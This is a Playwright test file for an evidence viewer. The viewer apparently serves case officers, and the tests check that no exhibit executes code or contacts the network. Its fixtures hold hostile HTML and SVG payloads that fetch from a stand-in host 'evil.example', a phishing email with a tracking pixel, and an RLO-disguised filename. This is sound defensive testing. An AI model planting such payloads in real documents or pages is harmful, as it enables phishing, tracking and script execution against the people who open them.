import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from 'playwright/test'
import sharp from 'sharp'
import { ROWS_AT_ONCE } from '#contract/viewing-operations.ts'
import { makePdf, makeWav } from '../node/viewing/viewing-desk.ts'
import { FOUR_FIELDS_HEIC } from '../support/heic-sample.ts'
import { languagesFrom } from './languages.ts'
import { look } from './look.ts'
import { type Officer, officerWithKeyboard, officerWithMouse, setUpVault } from './officer.ts'
import { expect, TEXTS, test, type Workstation } from './workstation.ts'

const EVIL = 'http://evil.example'

const HOSTILE_HTML = `<!doctype html><title>prize</title>
<link rel=stylesheet href="${EVIL}/css"><link rel=prefetch href="${EVIL}/prefetch"><link rel=dns-prefetch href="//dns.evil.example">
<meta http-equiv=refresh content="0;url=${EVIL}/refresh"><base href="${EVIL}/base/">
<script>fetch('${EVIL}/script');document.title='owned';window.opener</script>
<style>@import '${EVIL}/import';body{background:url(${EVIL}/bg)}@font-face{font-family:x;src:url(${EVIL}/font)}</style>
<h1 style="font-family:x">You have won</h1><img src="${EVIL}/img" onerror="fetch('${EVIL}/onerror')"><iframe src="${EVIL}/frame"></iframe>
<form action="${EVIL}/form"><input autofocus onfocus="this.form.submit()"></form><video src="${EVIL}/video" autoplay></video><a href="javascript:alert(1)">click</a>`

const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch('${EVIL}/onload')">
<script xlink:href="${EVIL}/svgscript"/><image xlink:href="${EVIL}/svgimage"/><use xlink:href="${EVIL}/use#x"/>
<style>@import '${EVIL}/svgcss';</style><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}/foreign"/></foreignObject><text>Receipt 500</text></svg>`

const EML = `From: "ABC Bank" <no-reply@evil.example>\r\nTo: dara@example.test\r\nSubject: Your account\r\nDate: Sun, 22 Nov 2026 10:00:00 +0700\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Dear customer, your account is blocked.</p><img src="${EVIL}/pixel"><a href="${EVIL}/login">Log in here</a>\r\n--b\r\nContent-Type: application/zip; name=form.zip\r\nContent-Disposition: attachment; filename=form.zip\r\nContent-Transfer-Encoding: base64\r\n\r\nUEsFBg==\r\n--b--\r\n`

const NOTE = `ឈ្មោះ ចាន់ ដារ៉ា\nទូរស័ព្ទ 012 345 678\nhidden \u202Egpj.exe\n${Array.from({ length: 900 }, (_, at) => `line ${at + 4}`).join('\n')}`

const CHAT = JSON.stringify({
  name: 'Investment Club',
  type: 'personal_chat',
  id: 4711,
  messages: [
    {
      id: 1,
      type: 'message',
      date: '2026-11-01T09:00:00',
      date_unixtime: '1793498400',
      from: 'Lisa',
      from_id: 'user1',
      text: 'សួស្ដីបង! ចង់រកលុយទេ?',
      text_entities: [],
    },
    {
      id: 2,
      type: 'message',
      date: '2026-11-01T09:01:00',
      date_unixtime: '1793498460',
      from: 'ដារ៉ា',
      from_id: 'user2',
      text: 'ធ្វើម៉េច?',
      text_entities: [],
    },
    {
      id: 3,
      type: 'message',
      date: '2026-11-01T09:02:00',
      date_unixtime: '1793498520',
      from: 'Lisa',
      from_id: 'user1',
      text: `<img src="${EVIL}/chat"> transfer 500 USD to 000 123 456`,
      text_entities: [],
    },
  ],
})

const CSV = `date,description,debit,credit,balance\n${Array.from({ length: 450 }, (_, at) => `${(at % 28) + 1}/11/2026,"ផ្ទេរប្រាក់ ${at}",${at}.00,,${100_000 - at}.00`).join('\n')}\n`

async function evidence(folder: string): Promise<readonly string[]> {
  const photo = sharp({
    create: { width: 1800, height: 1200, channels: 3, background: '#e8dcc0' },
  }).composite([
    {
      input: Buffer.from(
        `<svg width="1800" height="1200"><rect x="200" y="200" width="600" height="300" fill="#2c3180"/><circle cx="1300" cy="700" r="260" fill="#9d211d"/><text x="240" y="380" font-size="90" fill="white">012 345 678</text></svg>`,
      ),
    },
  ])
  const files: readonly (readonly [string, Uint8Array | string])[] = [
    ['01-ប័ណ្ណ.png', await photo.png().toBuffer()],
    ['02-letter.pdf', makePdf('Transfer order', 3)],
    ['03-note.txt', NOTE],
    ['04-prize.html', HOSTILE_HTML],
    ['05-receipt.svg', HOSTILE_SVG],
    ['06-mail.eml', EML],
    ['07-result.json', CHAT],
    ['08-bank.csv', CSV],
    ['09-voice.wav', makeWav(30)],
    ['10-statement.pdf', await photo.clone().jpeg().toBuffer()],
    ['11-IMG_0001.HEIC', FOUR_FIELDS_HEIC],
  ]
  const paths: string[] = []
  for (const [name, bytes] of files) {
    const path = join(folder, name)
    await writeFile(path, bytes)
    paths.push(path)
  }
  return paths
}

async function seal(workstation: Workstation, officer: Officer, paths: readonly string[]): Promise<void> {
  const { page, host } = workstation
  const text = TEXTS[officer.language]
  await page.keyboard.press('o')
  await page.getByRole('textbox', { name: text.cases.caseTitle }).fill('ករណីក្លឹបវិនិយោគ')
  await page.keyboard.press('Enter')
  await page.getByText(text.cases.noComplaintsTitle).waitFor()
  await page.keyboard.press('Alt+3')
  await host.chooseFiles(paths, () => page.getByRole('button', { name: text.exhibits.choose }).click())
  await expect(page.locator('.exhibit-table tbody tr')).toHaveCount(paths.length)
}

/** Opens the exhibit with this number from the list. */
async function open(page: Page, officer: Officer, place: number): Promise<void> {
  const { viewer } = TEXTS[officer.language]
  const ending = `-E${String(place).padStart(3, '0')}`
  await officer.press(
    page.getByRole('button', {
      name: new RegExp(`^${viewer.open === 'Look' ? 'Look at' : viewer.open} .*${ending}$`),
    }),
  )
  await expect(page.getByText(viewer.inert)).toBeVisible()
}

for (const language of languagesFrom('km')) {
  test(`evidence of every kind is looked at in ${language === 'km' ? 'Khmer' : 'English'}, and nothing of it runs or asks for anything`, async ({
    workstation,
  }) => {
    test.setTimeout(10 * 60_000)
    const { page } = workstation
    const officer = officerWithMouse(language)
    const { viewer } = TEXTS[language]
    await setUpVault(workstation, officer)
    await seal(workstation, officer, await evidence(workstation.desktopFolder))
    const next = () => page.getByRole('button', { name: viewer.next }).click()
    const see = (name: string) => look(page, language, `viewer-${name}`)
    const way = (view: keyof typeof viewer.viewNames) =>
      page.locator('.viewer-ways').getByRole('radio', { name: viewer.viewNames[view], exact: true }).check()

    await open(page, officer, 1)
    const picture = page.locator('.picture-place img')
    await expect
      .poll(() => picture.evaluate((img: HTMLImageElement) => img.naturalWidth))
      .toBeGreaterThan(700)
    await page.getByRole('button', { name: viewer.zoomIn }).click()
    await page.getByRole('button', { name: viewer.rotate }).click()
    await page.getByRole('button', { name: viewer.rotate }).click()
    await page.getByRole('button', { name: viewer.rotate }).click()
    await page.getByRole('button', { name: viewer.rotate }).click()
    await page.getByRole('button', { name: viewer.fit }).click()
    await see('01-picture')

    await page.getByRole('button', { name: viewer.cover }).click()
    const layer = page.getByTestId('box-layer')
    await layer.scrollIntoViewIfNeeded()
    const at = await layer.boundingBox()
    if (at === null) throw new Error('the page is there')
    await page.mouse.move(at.x + at.width * 0.1, at.y + 60)
    await page.mouse.down()
    await page.mouse.move(at.x + at.width * 0.45, at.y + 160, { steps: 4 })
    await page.mouse.up()
    await expect(page.locator('.covered-box')).toHaveCount(1)
    await page.getByRole('textbox', { name: viewer.reason }).fill('ការពារអត្តសញ្ញាណជនរងគ្រោះ')
    await page.evaluate(() => scrollTo(0, 0))
    await see('02-covering')
    await page.getByRole('button', { name: viewer.makeCopy }).click()
    await page.getByRole('button', { name: viewer.lookAtCopy }).click()
    await expect(page.getByRole('heading', { level: 1, name: '01-ប័ណ្ណ-redacted.png' })).toBeVisible()
    await expect
      .poll(() => picture.evaluate((img: HTMLImageElement) => img.naturalWidth))
      .toBeGreaterThan(700)
    await see('03-covered-copy')

    await page.getByRole('link', { name: viewer.back }).click()
    await open(page, officer, 2)
    await expect
      .poll(() => picture.evaluate((img: HTMLImageElement) => img.naturalWidth))
      .toBeGreaterThan(500)
    await page.getByLabel(viewer.goTo.pictures).fill('3')
    await page.keyboard.press('Enter')
    await expect(page.getByText(viewer.pageOf(3, 3), { exact: true })).toBeVisible()
    await see('04-pdf')
    await way('words')
    await expect(page.getByText('Transfer order 3')).toBeVisible()

    await next()
    await expect(page.getByText('line 200', { exact: true })).toBeVisible()
    await see('05-text')
    await page.getByLabel(viewer.goTo.text).fill('700')
    await page.keyboard.press('Enter')
    await expect(page.getByText('line 700', { exact: true })).toBeVisible()
    await way('hex')
    await expect(page.locator('.hex-table')).toContainText('00000000')
    const bytes = Buffer.byteLength(NOTE)
    expect(bytes % 16).not.toBe(0)
    await expect(page.locator('.viewer-here')).toHaveText(viewer.rowsOf(0, ROWS_AT_ONCE.hex * 16, bytes))
    await see('06-hex')

    await next()
    await expect(page.getByText('You have won')).toBeVisible()
    await see('07-html')
    await way('text')
    await expect(
      page.getByText('<h1 style="font-family:x">You have won</h1>', { exact: false }),
    ).toBeVisible()
    await next()
    await expect(page.getByText('Receipt 500')).toBeVisible()
    await next()
    await expect(page.getByText('your account is blocked', { exact: false })).toBeVisible()
    await see('08-mail')
    await next()
    await expect(page.locator('.bubble')).toHaveCount(3)
    await expect(page.locator('.bubble').nth(2)).toContainText('<img src=')
    await see('09-chat')
    await next()
    await expect(page.locator('.cell-table tbody tr')).toHaveCount(200)
    await page.getByRole('button', { name: viewer.nextPart }).click()
    await expect(page.getByText('ផ្ទេរប្រាក់ 250')).toBeVisible()
    await see('10-table')

    await next()
    const frame = page.frameLocator('.media-frame')
    await expect(frame.locator('audio')).toBeVisible()
    await page.getByLabel(viewer.goTo.media).fill('12')
    await page.keyboard.press('Enter')
    await expect(page.locator('.media-frame')).toHaveAttribute('src', /\/12\/frame$/)
    await expect
      .poll(() => page.frames().find((one) => one.url().endsWith('/12/frame')) !== undefined)
      .toBe(true)
    await see('11-sound')

    await next()
    await expect(page.getByText(viewer.mismatchTitle)).toBeVisible()
    await expect(page.locator('.hex-table')).toBeVisible()
    await see('12-mismatch')
    await page.getByRole('button', { name: viewer.showByContent }).click()
    await expect
      .poll(() => picture.evaluate((img: HTMLImageElement) => img.naturalWidth))
      .toBeGreaterThan(500)

    await next()
    await expect(page.getByRole('heading', { level: 1, name: '11-IMG_0001.HEIC' })).toBeVisible()
    await expect.poll(() => picture.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(64)
    await see('13-heic')

    expect(await page.title()).not.toContain('owned')
    await page.keyboard.press('Control+l')
    await expect(page.locator('.picture-place')).toHaveCount(0)
    expect(workstation.foreignRequests).toEqual([])
  })
}

test('the viewer is worked by keyboard alone', async ({ workstation }) => {
  test.setTimeout(3 * 60_000)
  const { page } = workstation
  const officer = officerWithKeyboard(page, 'en')
  const { viewer } = TEXTS.en
  await setUpVault(workstation, officer)
  const path = join(workstation.desktopFolder, 'note.txt')
  await writeFile(path, Array.from({ length: 1000 }, (_, at) => `secret ${at + 1}`).join('\n'))
  await seal(workstation, officer, [path])
  await open(page, officer, 1)
  await officer.press(page.getByRole('button', { name: viewer.nextPart }))
  await expect(page.getByText('secret 301', { exact: true })).toBeVisible()
  await officer.press(page.getByRole('button', { name: viewer.cover }))
  await officer.fill(page.getByRole('textbox', { name: viewer.words }), 'secret')
  await officer.fill(page.getByRole('textbox', { name: viewer.reason }), 'test')
  await officer.press(page.getByRole('button', { name: viewer.makeCopy }))
  await officer.press(page.getByRole('button', { name: viewer.lookAtCopy }))
  await expect(page.getByText('██████ 1', { exact: true })).toBeVisible()
})

test('sound that is sought in plays from there, in a frame that can run nothing', async ({ workstation }) => {
  test.setTimeout(3 * 60_000)
  const { page } = workstation
  const officer = officerWithMouse('en')
  await setUpVault(workstation, officer)
  const path = join(workstation.desktopFolder, 'voice.wav')
  await writeFile(path, makeWav(600))
  await seal(workstation, officer, [path])
  const ranges: string[] = []
  page.context().on('request', (request) => {
    if (request.url().includes('/media')) ranges.push(request.headers().range ?? 'whole')
  })
  await open(page, officer, 1)
  await page.getByLabel(TEXTS.en.viewer.goTo.media).fill('540')
  await page.keyboard.press('Enter')
  await expect.poll(() => ranges.filter((range) => !range.endsWith('=0-')).length).toBeGreaterThan(0)
  const frame = page.frames().find((one) => one.url().endsWith('/540/frame'))
  if (frame === undefined) throw new Error('the frame is there')
  // Even the test's own script is kept out: scripts are off in the frame, by its own policy and by the page's sandbox.
  expect(await page.locator('.media-frame').getAttribute('sandbox')).toBe('')
  expect(frame.url()).not.toContain('voice')
})
